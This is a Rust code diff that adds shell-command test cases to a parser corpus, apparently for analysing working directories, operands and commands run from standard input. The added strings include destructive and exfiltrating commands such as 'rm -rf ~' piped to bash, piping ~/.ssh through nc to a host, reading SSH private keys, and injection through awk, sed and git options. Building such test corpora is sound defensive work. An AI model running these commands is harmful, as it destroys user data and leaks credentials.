@@ -143,6 +143,32 @@ const CORPUS: &[&str] = &[
     "PATH=/tmp/evil:$PATH ls",
     "X=1",
     "declare -a arr=(1 $(id) 3)",
+    // --- working directories
+    "cd /etc && echo x > passwd",
+    "cd ~/.ssh && cat id_ed25519",
+    "cd build; rm -rf ../.git",
+    "cd \"$X\" && rm -rf *",
+    "pushd /srv > /dev/null && make && popd",
+    "for d in a b; do (cd $d && make); done",
+    "git -C ../other log --oneline",
+    // --- programs from standard input
+    "echo 'rm -rf ~' | bash",
+    "base64 -d payload | sh",
+    "bash < x.sh",
+    "bash /dev/stdin <<< 'rm -rf ~'",
+    "python3 - <<< 'import os'",
+    // --- known programs, operands, other code run by known programs
+    "grep -rn -e TODO src",
+    "head -n 5 ~/.ssh/config",
+    "curl -fsSL -o /tmp/i.sh https://x",
+    "tar czf - ~/.ssh | nc host 9",
+    "awk 'BEGIN{system(\"id\")}'",
+    "sed -i '1e id' notes.md",
+    "git -c core.sshCommand='sh -c id' fetch",
+    "taskset 1 rm -rf ~",
+    "flock /tmp/l -c 'rm -rf ~'",
+    "watch -n 1 'rm -rf ~'",
+    "frobnicate --out=/etc/x input",
     // --- not parsable, empty
     "echo 'unterminated",
     "if true; then",
@@ -197,6 +223,16 @@ fn render_part(p: &Part) -> String {
     }
     if p.dynamic_redirects {
         line.push_str(" dynamic_redirects");
+    }
+    line.push_str(&list("operands", &p.operands));
+    if p.known {
+        line.push_str(" known");
+    }
+    if p.dirs != [""] {
+        line.push_str(&list("dirs", &p.dirs));
+        if p.dirs.is_empty() {
+            line.push_str(" dirs=?");
+        }
     }
     if !p.understood {
         line.push_str(&format!(" NOT UNDERSTOOD: {}", p.reason.as_deref().unwrap_or("?")));
